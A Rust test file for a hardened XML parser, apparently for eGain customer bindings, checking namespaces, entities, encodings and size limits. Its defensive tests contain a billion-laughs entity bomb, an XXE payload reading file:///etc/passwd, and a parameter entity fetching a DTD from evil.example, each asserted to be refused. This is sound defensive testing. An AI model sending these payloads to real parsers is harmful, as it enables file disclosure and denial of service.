use std::time::{Duration, Instant};

use proptest::prelude::*;

use super::*;

const CUSTOMER: &str = "http://bindings.egain.com/ws/model/v12/gen/interaction/customer";
const PERSON: &str = "http://bindings.egain.com/ws/model/v12/gen/interaction/contactperson";
const COMMON: &str = "http://bindings.egain.com/ws/model/v12/gen/common";
const POINT: &str = "http://bindings.egain.com/ws/model/v12/gen/interaction/contactpoint";

fn read(xml: &str) -> Result<Element, XmlError> {
    parse(xml.as_bytes(), &XmlLimits::default())
}

fn refused(xml: &str) -> XmlError {
    match read(xml) {
        Ok(tree) => panic!("accepted {xml:?} as {tree:?}"),
        Err(e) => e,
    }
}

/// The first request body of the seed's example 1, as eGain documents it.
const EXAMPLE_1: &str = r#"<customer xmlns="http://bindings.egain.com/ws/model/v12/gen/interaction/customer" 
		xmlns:ns1="http://bindings.egain.com/ws/model/v12/gen/interaction/contactperson"
		xmlns:ns2="http://bindings.egain.com/ws/model/v12/gen/platform" >
	<type>
		<value>individual</value>
	</type>
	<contactPersons>
		<ns1:contactPerson>
			<ns1:firstName>Jack</ns1:firstName>
		</ns1:contactPerson>
	</contactPersons>
</customer>"#;

/// A part of the seed's example 2, keeping its declaration and its ns1:, ns3:, ns4:.
const EXAMPLE_2: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<customer xmlns="http://bindings.egain.com/ws/model/v12/gen/interaction/customer" xmlns:ns1="http://bindings.egain.com/ws/model/v12/gen/interaction/contactperson" xmlns:ns2="http://bindings.egain.com/ws/model/v12/gen/platform" xmlns:ns3="http://bindings.egain.com/ws/model/v12/gen/common" xmlns:ns4="http://bindings.egain.com/ws/model/v12/gen/interaction/contactpoint">
   <department>
      <ns2:name>Service</ns2:name>
   </department>
   <type>
      <value>individual</value>
   </type>
   <marketSegment>Medical Products</marketSegment>
   <contactPersons>
      <ns1:contactPerson>
         <ns1:firstName>John</ns1:firstName>
         <ns1:gender>
            <ns3:value>male</ns3:value>
         </ns1:gender>
         <ns1:contactPoints>
            <ns4:contactPoint>
               <ns4:type>
                  <ns4:value>email</ns4:value>
                  <ns4:email>
                     <ns4:emailAddress>john.russel@customer.com</ns4:emailAddress>
                  </ns4:email>
               </ns4:type>
               <ns4:priority>
                  <ns3:value>medium</ns3:value>
               </ns4:priority>
            </ns4:contactPoint>
         </ns1:contactPoints>
      </ns1:contactPerson>
   </contactPersons>
</customer>"#;

fn child<'e>(element: &'e Element, ns: &str, name: &str) -> &'e Element {
    element
        .children
        .iter()
        .find(|c| c.is(ns, name))
        .unwrap_or_else(|| panic!("no {name} in {element:?}"))
}

#[test]
fn seed_example_1_parses() {
    let customer = read(EXAMPLE_1).unwrap();
    assert_eq!(
        (customer.ns.as_deref(), customer.name.as_str()),
        (Some(CUSTOMER), "customer")
    );
    assert!(
        customer.attributes.is_empty(),
        "xmlns declarations are not attributes"
    );
    assert_eq!(customer.text, "");
    let value = child(child(&customer, CUSTOMER, "type"), CUSTOMER, "value");
    assert_eq!(value.ns.as_deref(), Some(CUSTOMER));
    assert_eq!(value.text, "individual");
    let person = child(
        child(&customer, CUSTOMER, "contactPersons"),
        PERSON,
        "contactPerson",
    );
    assert_eq!(person.ns.as_deref(), Some(PERSON));
    assert_eq!(child(person, PERSON, "firstName").text, "Jack");
}

#[test]
fn seed_example_2_parses() {
    let customer = read(EXAMPLE_2).unwrap();
    assert_eq!(
        child(&customer, CUSTOMER, "marketSegment").text,
        "Medical Products"
    );
    let person = child(
        child(&customer, CUSTOMER, "contactPersons"),
        PERSON,
        "contactPerson",
    );
    let gender = child(child(person, PERSON, "gender"), COMMON, "value");
    assert_eq!(gender.ns.as_deref(), Some(COMMON));
    assert_eq!(gender.text, "male");
    let point = child(
        child(person, PERSON, "contactPoints"),
        POINT,
        "contactPoint",
    );
    let kind = child(point, POINT, "type");
    assert_eq!(child(kind, POINT, "value").text, "email");
    let email = child(child(kind, POINT, "email"), POINT, "emailAddress");
    assert_eq!(email.text, "john.russel@customer.com");
}

#[test]
fn prefixes_do_not_matter_only_namespaces() {
    let as_sent = read(EXAMPLE_1).unwrap();
    let others = read(&format!(
            r#"<c:customer xmlns:c="{CUSTOMER}" xmlns:p="{PERSON}"><c:type><c:value>individual</c:value></c:type>
               <c:contactPersons><p:contactPerson><p:firstName>Jack</p:firstName></p:contactPerson></c:contactPersons></c:customer>"#
        ))
        .unwrap();
    let defaults = read(&format!(
            r#"<customer xmlns="{CUSTOMER}"><type><value>individual</value></type><contactPersons>
               <contactPerson xmlns="{PERSON}"><firstName>Jack</firstName></contactPerson></contactPersons></customer>"#
        ))
        .unwrap();
    // ns1 names the customer namespace, then the person one deeper down.
    let rebound = read(&format!(
            r#"<ns1:customer xmlns:ns1="{CUSTOMER}"><ns1:type><x:value xmlns:x="{CUSTOMER}">individual</x:value></ns1:type>
               <ns1:contactPersons><ns1:contactPerson xmlns:ns1="{PERSON}"><ns1:firstName>Jack</ns1:firstName></ns1:contactPerson></ns1:contactPersons></ns1:customer>"#
        ))
        .unwrap();
    let elsewhere = read(&format!(
            r#"<customer xmlns="{CUSTOMER}"><type><value>individual</value></type>
               <contactPersons xmlns="{PERSON}"><contactPerson><firstName>Jack</firstName></contactPerson></contactPersons></customer>"#
        ))
        .unwrap();
    assert_eq!(as_sent, others);
    assert_eq!(as_sent, defaults);
    assert_eq!(as_sent, rebound);
    // contactPersons in the person namespace is another element.
    assert_ne!(as_sent, elsewhere);
}

#[test]
fn elements_in_no_namespace_have_none() {
    let tree = read(r#"<a><b xmlns="urn:x"><c xmlns=""/></b></a>"#).unwrap();
    assert_eq!(tree.ns, None);
    assert_eq!(tree.children[0].ns.as_deref(), Some("urn:x"));
    assert_eq!(tree.children[0].children[0].ns, None);
}

#[test]
fn namespace_uris_are_unescaped_like_attribute_values() {
    let tree = read(r#"<p:a xmlns:p="urn:x?a=1&amp;b=&#34;2&#34;"/>"#).unwrap();
    assert_eq!(tree.ns.as_deref(), Some("urn:x?a=1&b=\"2\""));
    assert_eq!(
        refused(r#"<a xmlns="urn:&ent;"/>"#),
        XmlError::Entity("ent".to_owned())
    );
    assert!(matches!(
        refused(r#"<a xmlns:p="urn:&#0;"/>"#),
        XmlError::CharRef(_)
    ));
}

#[test]
fn undeclared_prefix_is_refused() {
    assert!(matches!(refused("<x:a/>"), XmlError::UndeclaredPrefix(p) if p == "x"));
    assert!(matches!(refused(r#"<a y:b="1"/>"#), XmlError::UndeclaredPrefix(p) if p == "y"));
    // A declaration ends with its element.
    assert!(matches!(
        refused(r#"<a><b xmlns:x="urn:x"/><x:c/></a>"#),
        XmlError::UndeclaredPrefix(p) if p == "x"
    ));
}

#[test]
fn bad_namespace_declarations_are_refused() {
    assert!(matches!(
        refused(r#"<a xmlns:xmlns="urn:x"/>"#),
        XmlError::Namespace(_)
    ));
    assert!(matches!(
        refused(r#"<a xmlns:p="http://www.w3.org/XML/1998/namespace"/>"#),
        XmlError::Namespace(_)
    ));
}

#[test]
fn doctype_is_refused_wherever_it_is() {
    for xml in [
        "<!DOCTYPE a><a/>",
        "<?xml version=\"1.0\"?>\n<!DOCTYPE a SYSTEM \"http://example.com/a.dtd\"><a/>",
        "<!doctype a><a/>",
        "<a/><!DOCTYPE a>",
        "<!DOCTYPE a [<!ELEMENT a ANY>]><a/>",
        "<!DOCTYPE a [",
    ] {
        assert_eq!(refused(xml), XmlError::Doctype, "{xml}");
    }
}

#[test]
fn billion_laughs_is_refused_quickly() {
    let mut dtd = String::from("<!DOCTYPE lolz [<!ENTITY lol \"lol\">");
    for i in 1..10 {
        let previous = if i == 1 {
            "lol".to_owned()
        } else {
            format!("lol{}", i - 1)
        };
        dtd.push_str(&format!(
            "<!ENTITY lol{i} \"{}\">",
            format!("&{previous};").repeat(10)
        ));
    }
    let xml = format!("<?xml version=\"1.0\"?>{dtd}]><lolz>&lol9;</lolz>");
    let started = Instant::now();
    assert_eq!(refused(&xml), XmlError::Doctype);
    assert!(started.elapsed() < Duration::from_secs(1));
}

#[test]
fn external_entities_are_refused_quickly() {
    let started = Instant::now();
    let xxe = r#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#;
    assert_eq!(refused(xxe), XmlError::Doctype);
    let parameter =
        r#"<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><foo/>"#;
    assert_eq!(refused(parameter), XmlError::Doctype);
    // Without a DOCTYPE the reference is simply unknown.
    assert_eq!(
        refused("<foo>&xxe;</foo>"),
        XmlError::Entity("xxe".to_owned())
    );
    assert!(started.elapsed() < Duration::from_secs(1));
}

#[test]
fn only_predefined_entities_resolve() {
    let tree = read(r#"<a b="&lt;&gt;&amp;&apos;&quot;">&lt;&gt;&amp;&apos;&quot;</a>"#).unwrap();
    assert_eq!(tree.text, "<>&'\"");
    assert_eq!(tree.attribute("b"), Some("<>&'\""));
    assert_eq!(
        refused("<a>&nbsp;</a>"),
        XmlError::Entity("nbsp".to_owned())
    );
    assert_eq!(
        refused(r#"<a b="x&copy;"/>"#),
        XmlError::Entity("copy".to_owned())
    );
    assert!(matches!(refused("<a>&amp</a>"), XmlError::Syntax { .. }));
    assert!(matches!(
        refused(r#"<a b="&amp"/>"#),
        XmlError::Syntax { .. }
    ));
}

#[test]
fn character_references_resolve() {
    let tree = read(r#"<a b="&#65;&#x42;&#x1F600;">&#65;&#x41;&#xE9;&#13;</a>"#).unwrap();
    assert_eq!(tree.text, "AAé\r");
    assert_eq!(tree.attribute("b"), Some("AB😀"));
}

#[test]
fn references_to_characters_xml_forbids_are_refused() {
    for reference in [
        "#0",
        "#x0",
        "#1",
        "#x1F",
        "#xD800",
        "#xDFFF",
        "#x110000",
        "#xFFFE",
        "#99999999999",
        "#x",
        "#-1",
        "#",
    ] {
        assert!(
            matches!(
                refused(&format!("<a>&{reference};</a>")),
                XmlError::CharRef(_)
            ),
            "{reference} in text"
        );
        assert!(
            matches!(
                refused(&format!(r#"<a b="x&{reference};"/>"#)),
                XmlError::CharRef(_)
            ),
            "{reference} in an attribute"
        );
    }
    assert_eq!(
        refused(r#"<a b="&#65;&#1;"/>"#),
        XmlError::CharRef("#1".to_owned())
    );
}

#[test]
fn raw_characters_xml_forbids_are_refused() {
    assert_eq!(refused("<a>\u{1}</a>"), XmlError::InvalidChar(1));
    assert_eq!(refused("<a b=\"\u{0}\"/>"), XmlError::InvalidChar(0));
    assert_eq!(refused("<a>\u{FFFF}</a>"), XmlError::InvalidChar(0xFFFF));
}

#[test]
fn invalid_utf8_is_refused_anywhere() {
    let limits = XmlLimits::default();
    for body in [
        &b"<a>\xFF</a>"[..],
        b"<a\xC3>x</a\xC3>",
        b"<a b=\"\xED\xA0\x80\"/>",
        b"<a/>\xE2\x82",
        b"\xFE\xFF<a/>",
    ] {
        assert!(
            matches!(parse(body, &limits), Err(XmlError::InvalidUtf8 { .. })),
            "{body:?}"
        );
    }
    assert_eq!(
        parse(b"<a>\xFF</a>", &limits),
        Err(XmlError::InvalidUtf8 { at: 3 })
    );
}

#[test]
fn a_bom_is_fine() {
    let tree = parse(
        b"\xEF\xBB\xBF<?xml version=\"1.0\" encoding=\"UTF-8\"?><a>x</a>",
        &XmlLimits::default(),
    );
    assert_eq!(tree.unwrap().text, "x");
}

#[test]
fn encodings_other_than_utf8_are_refused() {
    assert!(read(r#"<?xml version="1.0" encoding="utf-8"?><a/>"#).is_ok());
    assert!(read(r#"<?xml version="1.0"?><a/>"#).is_ok());
    for encoding in ["ISO-8859-1", "UTF-16", "windows-1252", "utf8"] {
        assert_eq!(
            refused(&format!(
                r#"<?xml version="1.0" encoding="{encoding}"?><a/>"#
            )),
            XmlError::UnsupportedEncoding(encoding.to_owned())
        );
    }
}

#[test]
fn declarations_must_be_first_and_1_0() {
    assert!(matches!(
        refused("<a/><?xml version=\"1.0\"?>"),
        XmlError::Syntax { .. }
    ));
    assert!(matches!(
        refused(" <?xml version=\"1.0\"?><a/>"),
        XmlError::Syntax { .. }
    ));
    assert!(matches!(
        refused("<?xml version=\"1.1\"?><a/>"),
        XmlError::Syntax { .. }
    ));
    assert!(matches!(
        refused("<?xml encoding=\"UTF-8\"?><a/>"),
        XmlError::Syntax { .. }
    ));
}

#[test]
fn mismatched_end_tags_are_refused() {
    assert_eq!(
        refused("<a><b></a></b>"),
        XmlError::MismatchedEnd {
            expected: "b".to_owned(),
            found: "a".to_owned()
        }
    );
    // The same namespace under another prefix is still another tag.
    assert!(matches!(
        refused(r#"<x:a xmlns:x="urn:u" xmlns:y="urn:u"></y:a>"#),
        XmlError::MismatchedEnd { .. }
    ));
    assert_eq!(refused("<a/></a>"), XmlError::UnmatchedEnd("a".to_owned()));
}

#[test]
fn unclosed_elements_are_refused() {
    assert_eq!(refused("<a><b></b>"), XmlError::Unclosed("a".to_owned()));
    assert_eq!(refused("<a><b>text"), XmlError::Unclosed("b".to_owned()));
    assert!(matches!(refused("<a><b"), XmlError::Syntax { .. }));
    assert!(matches!(refused("<a b=\"1></a>"), XmlError::Syntax { .. }));
}

#[test]
fn a_second_root_is_refused() {
    assert_eq!(refused("<a/><b/>"), XmlError::SecondRoot);
    assert_eq!(refused("<a></a>\n<a></a>"), XmlError::SecondRoot);
}

#[test]
fn text_outside_the_root_is_refused() {
    assert_eq!(refused("hello<a/>"), XmlError::TextOutsideRoot);
    assert_eq!(refused("<a/>hello"), XmlError::TextOutsideRoot);
    assert_eq!(refused("<a/><![CDATA[ ]]>"), XmlError::TextOutsideRoot);
    assert_eq!(refused("<a/>&#32;"), XmlError::TextOutsideRoot);
    assert!(read("\n <a/> \n\t").is_ok());
}

#[test]
fn no_root_is_refused() {
    for xml in [
        "",
        "   \n",
        "<!-- nothing -->",
        "<?xml version=\"1.0\"?>",
        "<?pi here?>",
    ] {
        assert_eq!(refused(xml), XmlError::NoRoot, "{xml:?}");
    }
}

#[test]
fn depth_is_bounded() {
    let limits = XmlLimits {
        max_depth: 3,
        ..XmlLimits::default()
    };
    assert!(parse(b"<a><b><c/></b></a>", &limits).is_ok());
    assert!(parse(b"<a><b><c></c></b></a>", &limits).is_ok());
    assert_eq!(
        parse(b"<a><b><c><d/></c></b></a>", &limits),
        Err(XmlError::TooDeep { max: 3 })
    );
    let deep = "<a>".repeat(100_000);
    assert_eq!(refused(&deep), XmlError::TooDeep { max: 32 });
}

#[test]
fn element_count_is_bounded() {
    let limits = XmlLimits {
        max_elements: 3,
        ..XmlLimits::default()
    };
    assert!(parse(b"<a><b/><c/></a>", &limits).is_ok());
    assert_eq!(
        parse(b"<a><b/><c/><d/></a>", &limits),
        Err(XmlError::TooManyElements { max: 3 })
    );
    let wide = format!("<a>{}</a>", "<b/>".repeat(100_001));
    assert_eq!(refused(&wide), XmlError::TooManyElements { max: 100_000 });
}

#[test]
fn mixed_content_is_refused() {
    assert_eq!(
        refused("<a>text<b/></a>"),
        XmlError::MixedContent("a".to_owned())
    );
    assert_eq!(
        refused("<a><b/>text</a>"),
        XmlError::MixedContent("a".to_owned())
    );
    assert_eq!(
        refused("<a><b/><![CDATA[x]]></a>"),
        XmlError::MixedContent("a".to_owned())
    );
    assert_eq!(
        refused("<a><b/>&amp;</a>"),
        XmlError::MixedContent("a".to_owned())
    );
    assert_eq!(
        refused("<a>&#65;<b/></a>"),
        XmlError::MixedContent("a".to_owned())
    );
    // A no-break space is not XML whitespace.
    assert_eq!(
        refused("<a>\u{A0}<b/></a>"),
        XmlError::MixedContent("a".to_owned())
    );
}

#[test]
fn whitespace_between_children_is_dropped_and_leaf_text_kept() {
    let tree = read("<a>\n  <b>  two  spaces  </b>\r\n\t<c> </c> <!-- x --> </a>").unwrap();
    assert_eq!(tree.text, "");
    assert_eq!(tree.children[0].text, "  two  spaces  ");
    assert_eq!(tree.children[1].text, " ");
}

#[test]
fn line_ends_are_normalized_as_xml_requires() {
    assert_eq!(read("<a>1\r\n2\r3</a>").unwrap().text, "1\n2\n3");
    assert_eq!(
        read("<a b=\"1\r\n2\t3\"/>").unwrap().attribute("b"),
        Some("1 2 3")
    );
}

#[test]
fn comments_and_processing_instructions_are_ignored_and_cdata_is_text() {
    let tree = read(
            "<?xml version=\"1.0\"?><!-- before --><?app x?><a>one<!-- c -->two<?app y?><![CDATA[<three> & ]]>four</a><!-- after -->",
        )
        .unwrap();
    assert_eq!(tree.text, "onetwo<three> & four");
    assert!(tree.children.is_empty());
    assert!(matches!(
        refused("<a><!-- a -- b --></a>"),
        XmlError::Syntax { .. }
    ));
}

#[test]
fn duplicate_attributes_are_refused() {
    assert_eq!(
        refused(r#"<a b="1" b="2"/>"#),
        XmlError::DuplicateAttribute("b".to_owned())
    );
    assert_eq!(
        refused(r#"<a xmlns:x="urn:u" xmlns:y="urn:u" x:b="1" y:b="2"/>"#),
        XmlError::DuplicateAttribute("y:b".to_owned())
    );
    assert_eq!(
        refused(r#"<a xmlns:x="urn:u" xmlns:x="urn:v"/>"#),
        XmlError::DuplicateAttribute("xmlns:x".to_owned())
    );
    // The same local name in two namespaces is two attributes.
    assert_eq!(
        read(r#"<a xmlns:x="urn:u" b="1" x:b="2"/>"#)
            .unwrap()
            .attributes
            .len(),
        2
    );
}

#[test]
fn attributes_are_resolved_and_unescaped() {
    let tree = read(
        r#"<p:a xmlns:p="urn:p" xmlns="urn:d" id="1 &amp; 2" p:kind='it&apos;s' xml:lang="en"/>"#,
    )
    .unwrap();
    assert_eq!(
        tree.attributes,
        vec![
            Attribute {
                ns: None,
                name: "id".to_owned(),
                value: "1 & 2".to_owned()
            },
            Attribute {
                ns: Some("urn:p".to_owned()),
                name: "kind".to_owned(),
                value: "it's".to_owned()
            },
            Attribute {
                ns: Some("http://www.w3.org/XML/1998/namespace".to_owned()),
                name: "lang".to_owned(),
                value: "en".to_owned()
            },
        ]
    );
    assert!(matches!(refused(r#"<a b="<"/>"#), XmlError::Syntax { .. }));
}

#[test]
fn names_must_be_xml_names() {
    for xml in [
        "<>",
        "<1/>",
        "<a::b xmlns:a=\"u\"/>",
        "<-a/>",
        "<a 1b=\"x\"/>",
        "<xmlns:a/>",
        "<a x:=\"1\"/>",
    ] {
        assert!(
            matches!(
                refused(xml),
                XmlError::Syntax { .. } | XmlError::UndeclaredPrefix(_)
            ),
            "{xml}"
        );
    }
    assert_eq!(read("<é.ü-1 _b·=\"x\"/>").unwrap().name, "é.ü-1");
}

#[test]
fn cdata_end_is_not_allowed_in_text() {
    assert!(matches!(refused("<a>]]></a>"), XmlError::Syntax { .. }));
    assert_eq!(read("<a>]] ></a>").unwrap().text, "]] >");
}

#[test]
fn empty_forms_are_the_same() {
    assert_eq!(read("<a/>").unwrap(), read("<a></a>").unwrap());
    assert_eq!(read("<a/>").unwrap(), Element::new(None, "a"));
}

#[test]
fn messages_do_not_echo_long_input() {
    let name = "n".repeat(10_000);
    for xml in [
        format!("<{name}>"),
        format!("<a>&{name};</a>"),
        format!("<{name}:a/>"),
        format!("<a><{name}></a>"),
        format!("<a b=\"1\" {name}=\"\" {name}=\"\"/>"),
    ] {
        let message = refused(&xml).to_string();
        assert!(message.len() < 200, "{message}");
    }
}

proptest! {
    // Failures are reported, not saved: a regressions file would land outside this module.
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn arbitrary_bytes_never_panic(body in prop::collection::vec(any::<u8>(), 0..512)) {
        let _ = parse(&body, &XmlLimits::default());
    }

    #[test]
    fn arbitrary_markup_never_panics(body in r#"[<>/!?&;#x:="' a-c0-9\[\]\-DOCTYPECDATA]{0,200}"#) {
        let _ = parse(body.as_bytes(), &XmlLimits { max_depth: 4, max_elements: 20 });
    }
}
